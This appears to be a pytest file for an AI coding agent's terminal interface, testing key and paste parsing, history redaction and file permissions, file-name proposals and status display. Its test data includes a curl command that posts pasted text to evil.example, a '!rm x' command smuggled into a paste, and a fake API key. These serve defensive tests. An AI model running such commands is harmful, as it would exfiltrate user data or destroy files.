"""Tests of typed and pasted input: keys in every encoding, the history on the disk, the proposed names."""

import asyncio
import json
import os
import pty
import resource
import select
import subprocess
import threading
import tty
from pathlib import Path

import pytest
from prompt_toolkit.input.vt100_parser import Vt100Parser
from prompt_toolkit.key_binding.key_processor import KeyPress
from prompt_toolkit.keys import Keys

from policy.model.tier import Mode
from runner.events import Changed, ContextUsed
from runner.frontends.terminal import input as intake_way
from runner.frontends.terminal.input import Intake
from runner.frontends.tui import bell as bell_way
from runner.frontends.tui import fast_start as quick_way
from runner.frontends.tui.bell import Bell
from runner.frontends.tui.editor import Editor
from runner.frontends.tui.fast_start import _parsed, fits
from runner.frontends.tui.files import listed
from runner.frontends.tui.history import Remembered
from runner.frontends.tui.keyboard import keyboard
from runner.frontends.tui.menu import Menu, MenuEntry, Proposals
from runner.frontends.tui.rows import row_cells
from runner.frontends.tui.status import StatusLine
from runner.secrets.redactor import Redactor
from runner.secrets.secret import Secret

# what the terminal sends, what it is to us
KEYS = [
    ("\r", ["c-m"], "Enter"),
    ("\x1b\r", ["escape", "c-m"], "Alt+Enter"),
    ("\x1b[13;2u", ["escape", "c-m"], "Shift+Enter by kitty's protocol"),
    ("\x1b[27;2;13~", ["escape", "c-m"], "Shift+Enter by xterm's"),
    ("\x1b[13;2:1u", [], "a form that was not asked for: keys of its own, below"),
    ("\x1b[99;5u", ["c-c"], "Ctrl+C by kitty's protocol"),
    ("\x1b[99;133u", ["c-c"], "with num lock"),
    ("\x1b[99;69u", ["c-c"], "with caps lock"),
    ("\x1b[27u", ["escape"], "Escape"),
    ("\x1b[9;2u", ["s-tab"], "Shift+Tab"),
    ("\x1b[113;3u", ["escape", "q"], "Alt+Q"),
    ("\x1b[127u", ["c-h"], "Backspace"),
]


@pytest.mark.parametrize(("sent", "keys", "why"), [row for row in KEYS if row[1]])
def test_keys_by_every_spelling(sent: str, keys: list[str], why: str) -> None:
    keyboard({"TERM": "xterm"})
    found: list[str] = []
    parser = Vt100Parser(lambda press: found.append(getattr(press.key, "value", press.key)))
    parser.feed(sent)
    parser.flush()
    assert found == keys, why


P, E = "\x1b[200~", "\x1b[201~"
# what comes (None: and nothing more for a while), what it is to us (`<...>`: pasted), what was answered
ARRIVALS = [
    (["hello\r"], "h e l l o c-m", [], "typed, be it by a program"),
    (["one\rtwo\r"], r"<'one\rtwo\r'>", [], "no marks, but lines that come at once"),
    (["one\x1b\rtwo\r"], "o n e escape c-m t w o c-m", [], "Alt+Enter ends no line"),
    ([f"{P}a\rb{E}"], r"<'a\rb'>", [], "marked"),
    ([f"{P}a{E}\r!rm x\r{E}"], r"<'a\r!rm x\r'>", [], "an end mark inside"),
    ([f"{P}a{E}\x04\x03\r"], r"<'a\x04\x03\r'>", [], "no key comes with the end of a paste"),
    ([f"{P}a{E}", None, f"!rm x\r{E}"], r"<'a'> <'!rm x\r'>", [], "an end mark inside, and a line that is slow"),
    ([f"x{P}a{E}{P}b{E}"], "x <'ab'>", [], "one behind the other"),
    (["x\x1b]11;rgb:ff/ff/ff\x1b\\y\x1b[?62;22cz"], "x y z", ["11;rgb:ff/ff/ff", "?62;22c"], "answers are no keys"),
    (["\x1b]11;rgb:f", None, "f/ff/ff\x1b", "\\y"], "y", ["11;rgb:ff/ff/ff"], "however late"),
    (["\x1b[>41;3", None, "79;0c", "y"], "y", [">41;379;0c"], "who it is, too"),
    (["\x1b]11;rgb:f", None, "go\r"], "c-m", ["11;rgb:fgo"], "one that was cut off"),
    (["\x1b", None, "[A"], "escape [ A", [], "Escape alone, and then two letters"),
    (["\x1b", "[A", "\x1b[3", "~"], "up delete", [], "keys in pieces"),
    (["\x1b]", None], "escape ]", [], "Alt+]"),
]


@pytest.mark.threat("T112")
@pytest.mark.parametrize("size", [1 << 16, 8])
@pytest.mark.parametrize(("pieces", "keys", "answers", "why"), ARRIVALS, ids=[row[3] for row in ARRIVALS])
def test_keys_pastes_and_answers_are_told_apart(
    pieces: list[str | None], keys: str, answers: list[str], why: str, size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_way, "_PIECE", size)  # of one read
    ours, theirs = pty.openpty()
    tty.setraw(theirs)
    told: list[str] = []
    presses: list[KeyPress] = []
    with open(theirs, encoding="utf-8") as stdin:
        intake = Intake(stdin, told.append)
        missing, read = 0, intake.stdin_reader.read  # characters that have not arrived yet

        def counted(size: int = 1024) -> str:
            nonlocal missing
            arrived = read(size)
            missing -= len(arrived)
            return arrived

        monkeypatch.setattr(intake.stdin_reader, "read", counted)
        for piece in pieces:
            if piece is None:
                presses += intake.flush_keys()
                continue
            missing += os.write(ours, piece.encode())
            while missing:
                select.select([stdin], [], [])
                presses += intake.read_keys()
        presses += intake.flush_keys()
    os.close(ours)
    names = [
        f"<{press.data!r}>"
        if press.key is Keys.BracketedPaste
        else str(press.key.value if isinstance(press.key, Keys) else press.key)
        for press in presses
    ]
    assert " ".join(names) == keys
    assert told == answers


@pytest.mark.parametrize("last", ["", "\x03"], ids=["a key held down", "Ctrl+C"])
def test_whoever_types_on_behind_a_paste_holds_nothing_up(last: str) -> None:
    ours, theirs = pty.openpty()
    tty.setraw(theirs)
    done, waited = threading.Event(), threading.Event()

    def typing() -> None:
        for _ in range(1000 if not last else 3):
            os.write(ours, b"a")
            if done.wait(0.05):
                return
        os.write(ours, last.encode())
        waited.set()

    with os.fdopen(theirs) as stdin:
        intake = Intake(stdin)
        os.write(ours, b"\x1b[200~one\x1b[201~two")
        keys = threading.Thread(target=typing)
        keys.start()
        presses = intake.read_keys()
        if last:
            waited.wait()
            while presses[-1].key != "c-c":
                presses += intake.read_keys()
        else:
            assert not waited.is_set()
        done.set()
        keys.join()
    os.close(ours)
    assert presses[0].key is Keys.BracketedPaste


@pytest.mark.parametrize(
    ("environ", "asked"),
    [
        ({"TERM": "xterm-256color"}, True),
        ({"TERM": "linux"}, False),
        ({}, False),
        ({"TERM": "xterm-256color", "TERM_PROGRAM": "Apple_Terminal"}, False),
    ],
)
def test_only_terminals_that_can_are_asked(environ: dict[str, str], asked: bool) -> None:
    found = keyboard(environ)
    assert bool(found.on) is bool(found.off) is asked


@pytest.mark.threat("T112")
def test_history_is_private_and_holds_no_secret(tmp_path: Path) -> None:
    secret = "sk-ant-api03-" + "a1B2" * 12
    Secret(secret)
    path = tmp_path / "history"
    history = Remembered()
    history.append_string("before anything is open")
    history.keep(path, Redactor(live=True, shapes=True).text)
    history.append_string(f"use {secret} for it")
    history.append_string(" not this one")
    history.append_string("two\nlines")
    assert path.stat().st_mode & 0o777 == 0o600
    assert secret not in path.read_text()
    again = Remembered()
    again.keep(path, str)
    assert again.get_strings() == ["before anything is open", "use [secret] for it", "two\nlines"]


@pytest.mark.threat("T112")
@pytest.mark.parametrize("how", ["link", "open", "folder", "pipe", "broken"])
def test_a_history_that_is_not_ours_alone_is_left_alone(tmp_path: Path, how: str) -> None:
    path, other = tmp_path / "history", tmp_path / "other"
    other.write_text(json.dumps("theirs") + "\n")
    match how:
        case "link":
            path.symlink_to(other)
        case "open":
            path.write_text(json.dumps("theirs") + "\n")
            path.chmod(0o666)
        case "folder":
            path.mkdir()
        case "pipe":
            os.mkfifo(path, 0o600)
        case "broken":
            path.write_bytes(b'\xff\xfe\n{"a": 1}\n["x"]\n"ours"\n"cut o')
            path.chmod(0o600)
    history = Remembered()
    history.keep(path, str)
    history.append_string("mine")
    history.shorten()
    assert history.get_strings() == (["ours", "mine"] if how == "broken" else ["mine"])
    assert other.read_text() == json.dumps("theirs") + "\n"


def test_a_long_history_is_shortened(tmp_path: Path) -> None:
    path = tmp_path / "history"
    path.write_text("".join(json.dumps(f"line {number}") + "\n" for number in range(5000)))
    path.chmod(0o600)
    history = Remembered()
    history.keep(path, str)
    assert len(history.get_strings()) == 1000
    history.shorten()
    rows = path.read_text().splitlines()
    assert len(rows) == 1000
    assert rows[-1] == '"line 4999"'
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_full_disk_leaves_the_history_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "history"
    path.write_text("".join(json.dumps(f"line {number}") + "\n" for number in range(5000)))
    path.chmod(0o600)
    before = path.read_bytes()
    history = Remembered()
    history.keep(path, str)
    most = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100, most[1]))  # a longer write fails, as on a full disk
    try:
        history.shorten()
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, most)
    assert path.read_bytes() == before
    assert os.listdir(tmp_path) == ["history"]


# what is pasted, what the input shows
PASTES = [
    ("short", "short"),
    ("two\r\nlines\rmore", "two\nlines\nmore"),
    ("\n".join(["x"] * 9), "[pasted 9 lines #1]"),
    ("y" * 3000, "[pasted 3000 characters #1]"),
]


@pytest.mark.parametrize(("pasted", "shown"), PASTES)
def test_a_paste_is_whole_when_it_is_sent(pasted: str, shown: str) -> None:
    editor = Editor(Remembered(), lambda: None)
    editor.buffer.insert_text("see ")
    editor.paste(pasted)
    assert editor.buffer.text == f"see {shown}"
    assert editor.text == f"see {pasted}".replace("\r\n", "\n").replace("\r", "\n")
    if shown.startswith("["):
        editor.rub_out()
        assert editor.text == "see "


def test_a_recalled_word_means_no_other_paste() -> None:
    editor = Editor(Remembered(), lambda: None)
    editor.paste("z" * 5000)
    word = editor.buffer.text
    editor.taken()
    editor.paste("a" * 5000)
    editor.put(word)
    assert editor.text == word


@pytest.mark.threat("T112")
def test_a_text_that_is_changed_for_a_question_carries_no_paste_away() -> None:
    editor = Editor(Remembered(), lambda: None)
    editor.paste("mine\n" * 9)
    word = editor.buffer.text
    draft = editor.lend(f"curl -d '{word}' https://evil.example")
    assert "mine" not in editor.text
    editor.paste("new\n" * 9)
    assert "new" in editor.text
    editor.restore(draft)
    assert editor.text == "mine\n" * 9


def test_what_was_sent_is_proposed_no_more() -> None:
    menu = Menu([lambda before: Proposals(0, [MenuEntry("/compact")]) if before == "/compact" else None])
    editor = Editor(Remembered(), lambda: menu.leave(editor.buffer.document.text_before_cursor))
    editor.put("/compact")
    menu.follow("/compact")
    assert menu.open
    editor.taken()
    assert not menu.open


@pytest.mark.threat("T112")
def test_names_that_are_proposed(tmp_path: Path) -> None:
    for name in (
        "a.py",
        ".env",
        "src/b c.py",
        "src/.git/x",
        "node_modules/m.js",
        "id.pem",
        "bad\x1b[31m.txt",
        'q".txt',
    ):
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.touch()
    (tmp_path / "out").symlink_to("/etc")
    found = listed(str(tmp_path), lambda path: path.endswith(".pem"))
    assert found == ["a.py", "src/", "src/b c.py"]


@pytest.mark.parametrize("inside", ["", "sub/"])
def test_what_git_ignores_is_not_proposed(tmp_path: Path, inside: str) -> None:
    lists = {
        ".gitignore": "*.log\n/out/\n!keep.log\n",
        f"{inside}deep/.gitignore": "*.c\n",
        ".git/info/exclude": "mine",
    }
    files = ["a.py", "b.log", "keep.log", "mine", "out/x", "deep/a.c", "deep/a.h", "deep/out/y"]
    for name, text in {**lists, **{f"{inside}{name}": "" for name in files}}.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    found = listed(str(tmp_path / inside), lambda path: False)
    top = ["out/"] if inside else []  # the pattern is about the top alone
    assert set(found) == {
        "a.py",
        "keep.log",
        "deep/",
        "deep/a.h",
        "deep/out/",
        "deep/out/y",
        *top,
        *(["out/x"] * len(top)),
    }
    # Against Git itself.
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    names = subprocess.run(
        ["git", "ls-files", "-o", "--exclude-standard", "."],
        cwd=tmp_path / inside,
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    assert {name for name in found if not name.endswith("/")} == {
        name for name in names if not name.endswith(".gitignore")
    }


@pytest.mark.threat("T112")
def test_a_hostile_list_of_what_is_ignored_takes_no_long_time(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".gitignore").write_text("*a*b*c*d*[\n" * 100_000)
    os.mkfifo(tmp_path / ".git" / "info")
    for number in range(300):
        (tmp_path / f"{'a' * 200}{number}").touch()
    (tmp_path / "b").mkdir()
    os.mkfifo(tmp_path / "b/.gitignore")
    assert len(listed(str(tmp_path), lambda path: False)) > 1


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


# what happens (a number: seconds that pass), how often a user is called at the end
CALLS = [
    (["typed", "over"], 0, "who typed a moment ago is there"),
    (["typed", 25, "over"], 1, "nobody is"),
    (["typed", 25, "asked"], 1, "a question, and there is no user"),
    (["typed", "asked"], 0, "a question, and a user is"),
    (["typed", "asked", "wait"], 1, "who then does not answer"),
    (["typed", "asked", "answered", "wait"], 0, "answered"),
    (["typed", "asked", "typed"], 0, "about to"),
    (["typed", "asked", "typed", "wait"], 1, "who pressed a key and does not answer"),
    (["typed", "asked", "typed", "answered", "wait"], 0, "answered with that key"),
    (["typed", "asked", "wait", "typed", "wait"], 1, "each question rings once"),
]


@pytest.mark.parametrize("how", ["bell", "osc9", "none"])
@pytest.mark.parametrize(("steps", "times", "why"), CALLS, ids=[row[2] for row in CALLS])
def test_somebody_who_is_away_is_called(
    steps: list[str | int], times: int, why: str, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bell_way, "AWAY", 0.02 if "wait" in steps else 20.0)
    wrote: list[str] = []

    async def work() -> None:
        clock = Clock()
        bell = Bell(wrote.append, clock)
        bell.how = how
        for step in steps:
            if isinstance(step, int):
                clock.now += step
            elif step == "wait":
                await asyncio.sleep(0.1)
            else:
                getattr(bell, step)()

    asyncio.run(work())
    assert "".join(wrote).count("\a") == (0 if how == "none" else times)
    assert not wrote or how != "osc9" or wrote[0].startswith("\x1b]9;ringfence: ")


def test_a_menu_follows_what_is_typed_and_nothing_else() -> None:
    menu = Menu(
        [lambda before: Proposals(0, [MenuEntry("/help"), MenuEntry("/model")]) if before.startswith("/") else None]
    )
    menu.follow("/")
    assert menu.open
    menu.move(-1)
    assert menu.chosen == (0, MenuEntry("/model"))
    assert menu.meant == menu.chosen
    menu.leave("/x")
    assert not menu.open, "the text became another one without typing"
    menu.follow("/h")
    menu.close("/h")
    menu.follow("/h")
    assert not menu.open, "Escape holds until the text changes"
    menu.follow("/he")
    assert menu.open


@pytest.mark.threat("T112")
def test_enter_takes_no_proposal_that_nobody_began_to_type() -> None:
    """`/trust` and Enter shows what there is to trust; a second Enter must not say yes to it."""
    menu = Menu([lambda before: Proposals(len("/trust "), [MenuEntry("yes", ready=True), MenuEntry("no", ready=True)])])
    menu.follow("/trust ")
    assert menu.open
    assert menu.meant is None
    menu.move(1)
    assert menu.meant == (7, MenuEntry("no", ready=True))
    menu.follow("/trust y")
    assert menu.meant == (7, MenuEntry("yes", ready=True))


@pytest.mark.parametrize("width", [200, 80, 60, 40, 20, 8, 1])
def test_the_line_of_status_fits_and_says_the_mode_last_of_all(width: int) -> None:
    status = StatusLine()
    status._mode, status._model, status._sandbox = "default", "some-model", "partial"  # as a session's start sets them
    status.take(ContextUsed(90_000, 100_000, True, 1.5))
    status.take(Changed("mode", "default", "trust-project"))
    line = status.line(width)
    assert row_cells(line) <= width
    text = "".join(part for _, part in line)
    assert text.startswith("trust-project"[: max(width - 1, 0)])
    if width >= 80:
        assert "90% of 100k" in text
        assert "$1.50" in text
        assert "sandbox partial" in text
        assert "net: ask" in text


def test_the_quick_way_reads_flags_as_the_long_one() -> None:
    args = _parsed(["--mode", "plan", "--model=a:b", "-c", "--limit", "cpu=3s", "--limit=pids=9", "--accept-partial"])
    assert (args.mode, args.model, args.limits, args.least) == (Mode.PLAN, "a:b", ("cpu=3s", "pids=9"), "partial")
    assert args.selection.latest
    assert _parsed(["--resume"]).selection.resume == ""
    assert _parsed(["--resume", "0123abcd"]).selection.resume == "0123abcd"


@pytest.mark.parametrize(
    ("words", "quick"),
    [
        (["--resume", "0123abcd"], True),
        (["--resume=nope"], True),
        (["--resume", "nope"], False),
        (["--resume", "exec", "--", "true"], False),
        (["--model", "a:b", "-c"], True),
        (["--model"], False),
        (["exec"], False),
    ],
)
def test_what_goes_the_quick_way_can_be_read_there(
    words: list[str], quick: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(quick_way, "at_terminal", lambda: True)
    assert fits(words) is quick
    assert not quick or _parsed(words)
